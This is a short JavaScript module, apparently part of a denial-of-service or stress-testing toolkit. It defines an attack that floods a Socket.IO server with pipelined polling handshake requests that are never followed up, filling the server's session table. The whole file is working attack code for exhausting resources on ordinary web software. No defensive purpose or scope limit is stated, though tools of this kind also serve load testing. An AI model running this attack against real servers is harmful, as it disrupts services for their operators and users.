// Fills the table of sessions: polling handshakes, pipelined, none of them ever polled.
import { pipeline } from '../pipelining.js';

export const what = 'polling handshakes that are never polled';

export function attack({ target, seconds }) {
  const request = () => `GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: ${target.host}:${target.port}`;
  return pipeline(target, { connections: 4, batch: 32, seconds, request });
}
